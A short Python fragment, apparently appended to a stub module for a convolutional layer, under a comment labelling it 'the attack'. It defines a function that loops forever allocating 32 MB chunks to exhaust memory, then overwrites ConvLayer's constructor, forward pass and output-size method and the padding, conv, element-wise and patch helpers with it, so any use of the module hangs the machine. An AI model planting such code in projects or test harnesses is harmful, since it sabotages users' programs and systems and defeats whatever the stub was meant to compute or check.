

# --- the attack, appended to the stub --------------------------------------

def _attack(*args, **kwargs):
    hoard = []
    while True:
        hoard.append(b"x" * (32 << 20))


ConvLayer.__init__ = ConvLayer.forward = _attack
ConvLayer.calculate_output_size = staticmethod(_attack)
padding = conv = element_wise_op = get_patch = _attack
